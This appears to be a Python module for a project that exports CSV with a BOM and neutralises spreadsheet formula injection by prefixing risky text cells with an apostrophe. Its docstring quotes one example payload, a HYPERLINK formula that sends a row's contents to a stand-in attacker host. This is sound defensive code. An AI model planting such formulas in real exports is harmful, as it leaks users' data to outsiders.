"""The one way this project writes CSV: UTF-8 with a BOM (Excel then shows Vietnamese), formulas neutralised.

A spreadsheet runs a cell that begins with =, +, -, @, a tab or a carriage return as a formula: a product
named =HYPERLINK("http://evil.example/?x="&A1, "Bấm vào đây") would become a link that sends the row away.
Every text cell that begins so is written with a leading apostrophe, which Excel and LibreOffice show as
text. Numbers stay numbers: -5000 in an amount column is written bare so that it still adds up; only text
is neutralised (a negative amount as text, "-5000", gets the apostrophe like any other text).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

BOM = "\ufeff"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_START)  # each is one character


class _TextOut(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralize(value: Any) -> Any:
    """A cell as written: text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class CsvWriter:
    """csv.writer whose every row goes through neutralize()."""

    def __init__(self, out: _TextOut, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, its text cells neutralised."""
        self._writer.writerow([neutralize(value) for value in row])

    def writecolumns(self, columns: list[list[Any]]) -> None:
        """Write the rows whose cells are given a column at a time (lists of equal length), text cells
        neutralised: a list comprehension per column, far cheaper than a call per row on a long export."""
        first = _FORMULA_FIRST
        cells = [[("'" + v) if isinstance(v, str) and v[:1] in first else v for v in column] for column in columns]
        self._writer.writerows(zip(*cells, strict=True))


def csv_writer(out: _TextOut, *, bom: bool = True) -> CsvWriter:
    """A writer of CRLF-terminated rows into ``out``, after the BOM unless ``bom`` is False."""
    if bom:
        out.write(BOM)
    return CsvWriter(out, lineterminator="\r\n")
